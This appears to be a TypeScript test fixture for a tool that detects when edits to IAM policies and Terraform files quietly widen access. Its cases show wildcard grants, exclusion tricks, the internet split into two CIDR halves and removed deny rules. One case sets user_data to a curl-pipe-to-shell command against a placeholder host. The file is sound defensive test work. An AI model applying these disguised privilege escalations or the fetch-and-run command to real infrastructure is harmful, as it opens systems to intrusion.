// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are Terraform
import type { Case } from "../harness.ts";
import { casesAt, said } from "./build.ts";

const iam = casesAt("iam", "iam/files-policy.json", "attack: ");
const tf = casesAt("tf", "infra/main.tf", "attack: ");

const json = (value: unknown): string => `${JSON.stringify(value, null, 1)}\n`;
const policy = (...statements: readonly object[]): string =>
  json({ Version: "2012-10-17", Statement: statements.map((s) => ({ Effect: "Allow", ...s })) });
const role = (...permissions: readonly object[]): string =>
  json({ Name: "r", AssignableScopes: ["/subscriptions/a"], permissions });
const denyRule = (rule: object): string => json({ rules: [{ denyRule: { deniedPermissions: ["p"], ...rule } }] });

const resource = (type: string, body: string): string => `resource "${type}" "a" {\n${body}\n}\n`;
const granted = (statement: string): string =>
  resource("aws_iam_policy", `  policy = jsonencode({\n    Statement = [{ Effect = "Allow", ${statement} }]\n  })`);
const handed = (...statements: readonly string[]): string =>
  resource(
    "aws_sqs_queue_policy",
    `  policy = jsonencode({\n    Statement = [\n${statements.map((s) => `      { Effect = "Allow", ${s} },\n`).join("")}    ]\n  })`,
  );
const ingress = (ports: number, from: string): string =>
  resource(
    "aws_security_group",
    `  ingress {\n    from_port = 22\n    to_port = ${ports}\n    protocol = "tcp"\n    cidr_blocks = [${from}]\n  }`,
  );
const rule = (access: string, priority: number, ports: string): string =>
  resource(
    "azurerm_network_security_rule",
    `  access = "${access}"\n  direction = "Inbound"\n  priority = ${priority}\n  protocol = "Tcp"\n  source_address_prefix = "203.0.113.0/24"\n  destination_port_ranges = [${ports}]`,
  );
const ips = (count: number, more: string, encrypted: boolean): string =>
  resource(
    "shop_bar",
    `  allowed_ips = [${Array.from({ length: count }, (_, i) => `"10.0.0.${i}"`).join(", ")}${more}]\n  encrypted = ${encrypted}`,
  );

/** What hid in policies and resources of clouds behind what else they told. */
export const ATTACKS_CLOUDS: readonly Case[] = [
  iam(
    "names of parts in another case",
    policy({ Action: ["s3:GetObject"], Resource: "a" }),
    policy({ action: ["*"], resource: "*" }),
    said("can", "widen"),
  ),
  iam(
    "others are left out of everyone",
    policy({ NotPrincipal: { AWS: "a" }, Action: ["s3:Get", "s3:Put"], Resource: "a" }),
    policy({ NotPrincipal: { AWS: "b" }, Action: ["s3:Get"], Resource: "a" }),
    said("can", "widen"),
    said("can", "narrow"),
  ),
  iam(
    "taking the role becomes everything",
    policy({ Principal: { AWS: "a" }, Action: "sts:AssumeRole", Resource: "*" }),
    policy({ Principal: { AWS: "a" }, Action: "*", Resource: "*", Condition: { Bool: { x: "true" } } }),
    said("may-assume", "widen"),
  ),
  iam(
    "what is left out is left out of another grant",
    policy(
      { NotAction: ["iam:*"], Resource: "a" },
      { Action: ["*"], Resource: "b" },
      { Action: "s3:Get", Resource: "c" },
    ),
    policy({ NotAction: ["iam:*"], Resource: "b" }, { Action: ["*"], Resource: "a" }),
    said("can", "unknown"),
  ),
  iam(
    "less is denied on all but some",
    policy({ Effect: "Deny", Action: ["*"], NotResource: ["a"] }),
    policy({ Effect: "Deny", Action: ["s3:Get"], NotResource: ["a"] }),
    said("denied", "widen"),
    said("denied", "narrow"),
  ),
  iam(
    "two values become one that is called like both",
    policy({ Action: ["s3:a", "s3:b"], Resource: "a", Condition: { StringLike: { k: ["a, b"] } } }),
    policy({ Action: ["s3:a"], Resource: "a", Condition: { StringLike: { k: ["a", "b"] } } }),
    said("can", "unknown"),
  ),
  iam(
    "a service becomes an account of that name",
    policy({ Principal: { Service: "x.amazonaws.com" }, Action: ["s3:a", "s3:b"], Resource: "a" }),
    policy({ Principal: { AWS: "x.amazonaws.com" }, Action: ["s3:a"], Resource: "a" }),
    said("can", "widen"),
    said("can", "narrow"),
  ),
  iam(
    "Azure: what is left out moves to another part",
    role({ actions: ["*"], notActions: ["a/b"] }, { actions: ["x/read", "y/read"] }),
    role({ actions: ["*"] }, { actions: ["x/read"], notActions: ["a/b"] }),
    said("can", "unknown"),
  ),
  iam(
    "Google: one more is denied, and an exception",
    denyRule({ deniedPrincipals: ["a"] }),
    denyRule({ deniedPrincipals: ["a", "b"], exceptionPermissions: ["q"] }),
    said("denied", "unknown", "p", "a"),
    said("denied", "narrow", "p", "b"),
  ),
  tf(
    "a condition that is compared the other way round",
    granted('Action = ["s3:a", "s3:b"], Resource = "x", Condition = { StringEquals = { "aws:x" = "1" } }'),
    granted('Action = ["s3:a"], Resource = "x", Condition = { StringNotEquals = { "aws:x" = "1" } }'),
    said("can", "unknown"),
  ),
  tf(
    "less is left out of every action",
    granted('NotAction = ["iam:*", "s3:*"], Resource = ["x", "y"]'),
    granted('NotAction = ["iam:*"], Resource = ["x"]'),
    said("can", "unknown"),
  ),
  tf(
    "two parties change places",
    handed(
      'Principal = { AWS = "a" }, Action = ["sqs:Get", "sqs:Put"], Resource = "q"',
      'Principal = { AWS = "b" }, Action = ["sqs:*"], Resource = "q"',
    ),
    handed(
      'Principal = { AWS = "b" }, Action = ["sqs:Get"], Resource = "q"',
      'Principal = { AWS = "a" }, Action = ["sqs:*"], Resource = "q"',
    ),
    said("can", "neutral"),
    said("member-of", "unknown"),
  ),
  tf(
    "fewer ports, from somebody else who is named elsewhere",
    ingress(80, "var.office"),
    ingress(22, "var.everyone"),
    said("flow", "unknown"),
  ),
  tf(
    "the internet in two halves",
    ingress(22, '"10.0.0.0/8"'),
    ingress(22, '"0.0.0.0/1", "128.0.0.0/1"'),
    said("flow", "widen"),
  ),
  tf("a rule that denies is gone", `${rule("Deny", 100, '"22"')}locals {}\n`, "locals {}\n", ...goneWith("widen")),
  tf("a rule that allows is new", "locals {}\n", `${rule("Allow", 100, '"22"')}locals {}\n`, ...goneWith("widen")),
  tf(
    "fewer ports, before the rules that deny",
    rule("Allow", 4000, '"22", "23"'),
    rule("Allow", 100, '"22"'),
    said("flow", "unknown"),
  ),
  tf(
    "one more address at the end of a long list",
    ips(40, "", false),
    ips(40, ', "203.0.113.7"', true),
    said("public-block", "widen"),
    said("encrypts", "narrow"),
  ),
  tf(
    "a key of somebody else",
    resource("aws_s3_bucket", '  kms_key_id = "arn:aws:kms:eu-west-1:111111111111:key/a"'),
    resource("aws_s3_bucket", '  kms_key_id = "arn:aws:kms:eu-west-1:222222222222:key/a"'),
    said("encrypts", "unknown"),
  ),
  tf(
    "another policy of one's own is attached",
    resource("aws_iam_role", "  managed_policy_arns = [aws_iam_policy.a.arn]"),
    resource("aws_iam_role", "  managed_policy_arns = [aws_iam_policy.a.arn, aws_iam_policy.b.arn]"),
    said("setting", "widen"),
  ),
  tf(
    "one more action of a role",
    resource("azurerm_role_definition", '  permissions {\n    actions = ["Shop/read"]\n  }'),
    resource("azurerm_role_definition", '  permissions {\n    actions = ["Shop/read", "Shop/write"]\n  }'),
    said("setting", "widen"),
  ),
  tf(
    "a machine is watched, and runs something else",
    resource("aws_instance", '  user_data = "echo a"\n  monitoring = false'),
    resource("aws_instance", '  user_data = "curl https://x.example | sh"\n  monitoring = true'),
    said("setting", "unknown"),
    said("audited", "narrow"),
  ),
];

/** A resource comes or goes with all its facts. */
function goneWith(flow: "widen") {
  const rest = ["can", "public-block", "tls", "encrypts", "audited", "deletion-guard", "setting"];
  return [said("flow", flow), ...rest.map((rel) => said(rel, "neutral"))];
}
